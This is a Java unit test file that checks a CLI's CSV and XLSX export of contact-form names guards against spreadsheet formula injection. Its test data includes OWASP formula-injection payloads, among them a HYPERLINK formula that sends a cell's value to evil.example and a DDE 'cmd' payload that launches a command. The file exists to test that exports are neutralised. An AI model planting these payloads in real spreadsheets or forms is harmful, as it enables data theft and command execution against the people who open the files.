package eu.mobilisesme.review;

import static org.assertj.core.api.Assertions.assertThat;

import eu.mobilisesme.review.fixtures.Cli;
import eu.mobilisesme.review.fixtures.ExportFixture;
import eu.mobilisesme.review.fixtures.Items;
import eu.mobilisesme.review.fixtures.Sheets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;

/**
 * The OWASP cells, stored as someone might type them into the contact form's name field: neutralised with a
 * leading apostrophe in CSV, kept as they are in XLSX, where every cell is a string cell that never runs.
 */
class FormulaCellsTest {

    static final List<String> TYPED = List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")",
            "+32 2 123 45 67",
            "-5",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\tfoo",
            "a;=b",
            "\"",
            "=1+2\";=1+2",
            "\r\n=cr-lf");

    @TempDir
    Path temp;

    Path export() {
        List<Map<String, AttributeValue>> items = new ArrayList<>();
        for (int i = 0; i < TYPED.size(); i++) {
            items.add(Items.with(Items.itemV1("contact", "formula-" + i, "en",
                    Instant.parse("2026-03-01T10:00:00Z").plusSeconds(60L * i)), "name", AttributeValue.fromS(TYPED.get(i))));
        }
        ExportFixture.full(temp.resolve("download"), "01700000000000-aaaa1111", Instant.parse("2026-11-20T10:00:00Z"))
                .items(items).write();
        return temp.resolve("download");
    }

    static String csvShows(String typed) {
        return switch (typed.charAt(0)) {
            case '=', '+', '-', '@', '\t', '\r', '\n' -> "'" + typed;
            default -> typed;
        };
    }

    @Test
    void csv_cells_that_would_run_get_an_apostrophe_and_the_rest_stay_as_typed() {
        for (char delimiter : new char[] {',', ';'}) {
            Path out = temp.resolve("out" + (int) delimiter);
            Cli.Result result = new Cli().run("sheets", "--export", export().toString(), "--out", out.toString(),
                    "--format", "csv", "--delimiter", String.valueOf(delimiter));
            assertThat(result.exitCode()).as(result.err()).isZero();

            List<List<String>> rows = Sheets.csv(out.resolve("contact.csv"), delimiter);
            List<String> names = rows.stream().skip(1).map(r -> r.get(rows.get(0).indexOf("Your name"))).toList();
            assertThat(names).containsExactlyElementsOf(TYPED.stream().map(FormulaCellsTest::csvShows).toList());
        }
    }

    @Test
    void csv_quotes_every_field_and_doubles_quotes_as_owasp_shows() throws Exception {
        Path out = temp.resolve("out");
        new Cli().run("sheets", "--export", export().toString(), "--out", out.toString(), "--format", "csv",
                "--delimiter", ";");

        String text = Files.readString(out.resolve("contact.csv"));
        assertThat(text).contains(";\"'=1+2\"\";=1+2\";").contains(";\"a;=b\";").contains(";\"\"\"\";")
                .contains(";\"'\tfoo\";");
    }

    @Test
    void xlsx_keeps_the_text_as_typed_in_string_cells() {
        Path out = temp.resolve("out");
        new Cli().run("sheets", "--export", export().toString(), "--out", out.toString(), "--format", "xlsx");

        List<List<String>> rows = Sheets.xlsx(out.resolve("submissions.xlsx")).get(2).rows();
        assertThat(rows.stream().skip(1).map(r -> r.get(rows.get(0).indexOf("Your name"))))
                .containsExactlyElementsOf(TYPED);
    }
}
